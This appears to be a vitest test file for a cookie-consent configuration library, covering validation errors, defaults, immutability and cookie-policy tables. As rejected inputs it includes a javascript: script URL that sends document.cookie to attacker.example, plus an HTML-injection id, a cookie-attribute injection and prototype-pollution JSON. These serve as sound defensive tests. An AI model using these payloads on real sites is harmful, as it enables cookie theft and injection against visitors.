import { describe, expect, it } from 'vitest';
import { ConsentConfigError, cookieTable, defineConfig } from '../index';
import { isConfig } from '../model/config';
import { config, input } from './fixtures';

/** Asserts defineConfig throws a ConsentConfigError naming `field`. */
function failsAt(value: unknown, field: string, message?: RegExp) {
  let error: unknown;
  try {
    defineConfig(value as never);
  } catch (e) {
    error = e;
  }
  expect(error, `expected an error at ${field}`).toBeInstanceOf(ConsentConfigError);
  expect((error as ConsentConfigError).field).toBe(field);
  expect((error as Error).message).toContain(field);
  if (message) expect((error as Error).message).toMatch(message);
}

const clone = () => {
  const c = JSON.parse(JSON.stringify(input));
  c.services[3].cookies[0].pattern = '^_hj'; // a RegExp does not survive JSON
  return c;
};

describe('defineConfig returns a frozen, normalised config', () => {
  it('freezes the config, its lists and their entries', () => {
    expect(Object.isFrozen(config)).toBe(true);
    expect(Object.isFrozen(config.categories)).toBe(true);
    expect(Object.isFrozen(config.categories[0])).toBe(true);
    expect(Object.isFrozen(config.services[2]!.cookies[0])).toBe(true);
  });

  it('fills defaults: opt-in, CNIL lifetimes, Lax first-party cookie on /', () => {
    expect(config.jurisdiction).toBe('opt-in');
    expect(config.lifetimes).toEqual({ accepted: 182, refused: 182 });
    expect(config.cookie).toEqual({
      name: 'consentry',
      domain: null,
      path: '/',
      sameSite: 'Lax',
      secure: false,
    });
    expect(config.revision).toBe('3');
  });

  it('compiles cookie patterns (string or RegExp) and keeps exact names literal', () => {
    const ga = config.services.find((s) => s.id === 'ga')!;
    expect(ga.cookies[0]).toMatchObject({
      name: '_ga',
      pattern: null,
      domain: '.example.com',
      lifetime: 395,
    });
    expect(ga.cookies[1]!.pattern?.test('_ga_XYZ')).toBe(true);
    expect(config.services.find((s) => s.id === 'hotjar')!.cookies[0]!.pattern?.source).toBe('^_hj');
  });

  it('SameSite=None implies Secure', () => {
    expect(defineConfig({ ...input, cookie: { sameSite: 'None' } }).cookie.secure).toBe(true);
  });

  it('takes its own output back (a spread config with one field changed): null reads as not given', () => {
    // The normalised shape (exempt: null, domain: null…) is not the input type; plain JS passes it as is.
    const again = defineConfig({ ...config, revision: 2 } as any);
    expect({ ...again, revision: config.revision }).toEqual(config);
    expect(defineConfig({ ...config } as any)).toEqual(config);
  });

  it('takes its own output as is (what consentry-config does with an imported config) and gives the same', () => {
    const again = defineConfig(config as any);
    expect(again).toEqual(config);
    expect(isConfig(again)).toBe(true);
    expect(defineConfig(again as any)).toEqual(config);
  });
});

describe('isConfig: only a defineConfig result is trusted as validated', () => {
  it('is true for defineConfig output and false for a copy or a plain `validated: true`', () => {
    expect(isConfig(config)).toBe(true);
    expect(isConfig({ ...config })).toBe(false);
    // What a module of an earlier version wrote, or a hand-edited copy: no check has run on it.
    expect(isConfig({ ...config, validated: true })).toBe(false);
    expect(isConfig({ ...input, validated: true })).toBe(false);
    for (const v of [undefined, null, 'config', 1]) expect(isConfig(v)).toBe(false);
  });

  it('a plain `validated: true` key is ignored: the object is checked like any other input', () => {
    failsAt({ ...input, validated: true, lifetimes: { accepted: 3650 } }, 'lifetimes.accepted', /13 months/);
    failsAt({ ...input, validated: true, policyUrl: 'javascript:alert(1)' }, 'policyUrl');
    const c = defineConfig({ ...input, validated: true } as never);
    expect([isConfig(c), Object.keys(c).includes('validated')]).toEqual([true, false]);
  });
});

describe('bad config fails at startup with an error that names the field', () => {
  it('a misspelt key fails, naming it, instead of leaving a default in force (JavaScript and JSON configs)', () => {
    const cases: [(c: any) => void, string][] = [
      [(c) => (c.jurisdicton = 'opt-out'), 'jurisdicton'],
      [(c) => (c.categories[3].saleOrSharng = true), 'categories[3].saleOrSharng'],
      [
        (c) => (c.categories[1].exempt.reasons = c.categories[1].exempt.reason),
        'categories[1].exempt.reasons',
      ],
      [(c) => (c.categories[2].texts.en.desciption = 'x'), 'categories[2].texts.en.desciption'],
      [(c) => (c.services[0].polcyUrl = '/cookies'), 'services[0].polcyUrl'],
      [(c) => (c.services[0].cookies[0].lifetme = 30), 'services[0].cookies[0].lifetme'],
      [(c) => (c.services[2].storage = [{ key: 'x', typ: 'session' }]), 'services[2].storage[0].typ'],
      [(c) => (c.lifetimes = { accept: 30 }), 'lifetimes.accept'],
      [(c) => (c.cookie = { sameSite: 'Lax', secur: true }), 'cookie.secur'],
      // A text of the UI: a misspelt one would never be shown.
      [(c) => (c.ui = { en: { titel: 'Cookies' } }), 'ui.en.titel'],
      [(c) => (c.ui = { fr: { title: 'Témoins', acceptALL: 'OK' } }), 'ui.fr.acceptALL'],
    ];
    for (const [edit, field] of cases) {
      const c = clone();
      edit(c);
      failsAt(c, field, /unknown key; expected one of/);
    }
    // Its own output, spread with one field changed, is still taken back.
    expect(defineConfig({ ...config, revision: 4 } as never).revision).toBe('4');
  });

  it('an unknown category in a service', () => {
    const c = clone();
    c.services[1].category = 'analytic';
    failsAt(c, 'services[1].category', /unknown category "analytic"/);
  });

  it('a duplicate category id', () => {
    const c = clone();
    c.categories[2].id = 'statistics';
    failsAt(c, 'categories[2].id', /duplicate id "statistics"/);
  });

  it('a service id that repeats a category id (one namespace for has())', () => {
    const c = clone();
    c.services[0].id = 'analytics';
    failsAt(c, 'services[0].id', /duplicate id/);
  });

  it('a required category that is not granted', () => {
    const c = clone();
    c.categories[0].default = false;
    failsAt(c, 'categories[0].default', /always granted/);
  });

  it('a "necessary" category not marked required', () => {
    const c = clone();
    delete c.categories[0].required;
    failsAt(c, 'categories[0].required');
  });

  it('a missing translation for a declared language', () => {
    const c = clone();
    delete c.categories[2].texts.fr;
    failsAt(c, 'categories[2].texts.fr', /missing translation/);
    const d = clone();
    delete d.services[0].cookies[0].purpose.fr;
    failsAt(d, 'services[0].cookies[0].purpose.fr');
    const e = clone();
    delete e.categories[1].exempt.reason.fr;
    failsAt(e, 'categories[1].exempt.reason.fr');
  });

  it('an empty title', () => {
    const c = clone();
    c.categories[2].texts.en.title = '  ';
    failsAt(c, 'categories[2].texts.en.title');
  });

  it('a lifetime past 13 months', () => {
    failsAt({ ...input, lifetimes: { accepted: 396 } }, 'lifetimes.accepted', /13 months/);
    failsAt({ ...input, lifetimes: { refused: 0 } }, 'lifetimes.refused');
    failsAt({ ...input, lifetimes: { refused: Number.NaN } }, 'lifetimes.refused');
  });

  it('an invalid cookie name or pattern', () => {
    const c = clone();
    c.services[0].cookies[0].name = 'bad name;';
    failsAt(c, 'services[0].cookies[0].name', /not a valid cookie name/);
    const d = clone();
    d.services[1].cookies[0].pattern = 'a+b(';
    failsAt(d, 'services[1].cookies[0].pattern', /invalid regular expression/);
    const e = clone();
    e.services[1].cookies[0] = { name: '_pk', pattern: '^_pk' };
    failsAt(e, 'services[1].cookies[0]', /exactly one/);
  });

  it('a cookie domain or path that is not one', () => {
    const c = clone();
    c.services[2].cookies[0].domain = 'example.com; Secure';
    failsAt(c, 'services[2].cookies[0].domain');
    failsAt({ ...input, cookie: { path: 'relative' } }, 'cookie.path');
    failsAt({ ...input, cookie: { sameSite: 'None', secure: false } }, 'cookie.secure');
  });

  it('an id with characters that could break the record or the DOM', () => {
    const c = clone();
    c.categories[2].id = 'ana lytics';
    failsAt(c, 'categories[2].id');
    const d = clone();
    d.categories[2].id = '"><img>';
    failsAt(d, 'categories[2].id');
  });

  it('a script or policy URL that is not http(s) or a same-site path', () => {
    const c = clone();
    c.services[2].scripts = ["javascript:fetch('https://attacker.example/steal?c='+document.cookie)"];
    failsAt(c, 'services[2].scripts[0]');
    failsAt({ ...input, policyUrl: '//evil.example/x' }, 'policyUrl');
    failsAt({ ...input, policyUrl: { en: '/cookies', fr: 'data:text/html,x' } }, 'policyUrl.fr');
  });

  it('an unknown Consent Mode type or category', () => {
    failsAt({ ...input, consentMode: { analytics_storag: 'analytics' } }, 'consentMode.analytics_storag');
    failsAt({ ...input, consentMode: { ad_storage: 'ads' } }, 'consentMode.ad_storage');
  });

  it('an ad or personalisation type on a required or exempt category: granted before any decision', () => {
    // Google would read ad consent as given to every visitor, and after rejectAll() too (required).
    for (const type of ['ad_storage', 'ad_user_data', 'ad_personalization', 'personalization_storage']) {
      failsAt(
        { ...input, consentMode: { [type]: 'necessary' } },
        `consentMode.${type}`,
        new RegExp(
          `"necessary" is granted before any decision; ${type} needs a category that asks for consent$`,
        ),
      );
      failsAt(
        { ...input, consentMode: { [type]: 'statistics' } },
        `consentMode.${type}`,
        /"statistics" is granted before any decision/,
      );
    }
    // Audience measurement may be exempt (CNIL; the visitor can still refuse it), never always on.
    failsAt(
      { ...input, consentMode: { analytics_storage: 'necessary' } },
      'consentMode.analytics_storage',
      /"necessary" is granted before any decision; analytics_storage needs a category that asks for consent/,
    );
  });

  it('what may be on without consent stays legal: security and functionality storage, exempt measurement', () => {
    const c = defineConfig({
      ...input,
      consentMode: {
        security_storage: 'necessary',
        functionality_storage: 'necessary',
        analytics_storage: 'statistics',
        ad_storage: 'marketing',
        personalization_storage: 'analytics',
      },
    });
    expect(c.consentMode).toEqual({
      security_storage: 'necessary',
      functionality_storage: 'necessary',
      analytics_storage: 'statistics',
      ad_storage: 'marketing',
      personalization_storage: 'analytics',
    });
    expect(defineConfig({ ...input, consentMode: { functionality_storage: 'statistics' } })).toBeTruthy();
  });

  it('missing or malformed top-level fields', () => {
    failsAt(null, 'config');
    failsAt({ ...input, revision: -1 }, 'revision');
    failsAt({ ...input, revision: 'v 2' }, 'revision');
    failsAt({ ...input, languages: [] }, 'languages');
    failsAt({ ...input, languages: ['en', 'en'] }, 'languages[1]');
    // The right shape, but Intl refuses them: the UI's lists and day counts would throw.
    for (const tag of ['en-GB-GB', 'en-12', 'zh-min-nan'])
      failsAt({ ...input, languages: ['en', tag] }, 'languages[1]', /expected a language tag like/);
    failsAt({ ...input, categories: [] }, 'categories');
    failsAt({ ...input, jurisdiction: 'gdpr' }, 'jurisdiction');
    failsAt({ ...input, ui: { de: { title: 'x' } } }, 'ui.de');
  });

  it('prototype keys in JSON input do not pollute Object.prototype', () => {
    // Built with JSON.parse so that __proto__ is an own key (peer-issue vector proto-pollution-deep-merge-config).
    const c = clone();
    c.categories[2].texts = JSON.parse(
      '{"en":{"title":"A"},"fr":{"title":"B"},"__proto__":{"polluted":"yes"}}',
    );
    c.ui = JSON.parse('{"en":{"title":"T","constructor":{"prototype":{"polluted2":"yes"}}}}');
    failsAt(c, 'ui.en.constructor');
    // No text of the UI has this name: refused, as a misspelt one, and nothing polluted.
    c.ui = JSON.parse('{"en":{"__proto__":"x"}}');
    failsAt(c, 'ui.en.__proto__');
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(({} as Record<string, unknown>).polluted2).toBeUndefined();
  });
});

describe('cookieTable: the cookie-policy data from config', () => {
  it('lists every category with its services and cookies, in the asked language', () => {
    const table = cookieTable(config, 'fr');
    expect(table.language).toBe('fr');
    expect(table.sections.map((s) => s.id)).toEqual(['necessary', 'statistics', 'analytics', 'marketing']);
    const necessary = table.sections[0]!;
    expect(necessary.required).toBe(true);
    expect(necessary.rows[0]).toMatchObject({
      provider: 'Opendatasoft',
      title: 'Authentication (fr)',
      cookies: [{ name: 'sessionid', pattern: false, purpose: 'Se souvenir de l’utilisateur' }],
    });
    expect(table.sections[1]!.exemptReason).toBe('Mesure d’audience anonymisée');
    expect(table.sections[2]!.rows[0]!.cookies.map((c) => c.name)).toEqual(['_ga', '^_ga_']);
  });

  it('falls back to the first declared language for an unknown one', () => {
    expect(cookieTable(config, 'xx').language).toBe('en');
  });
});
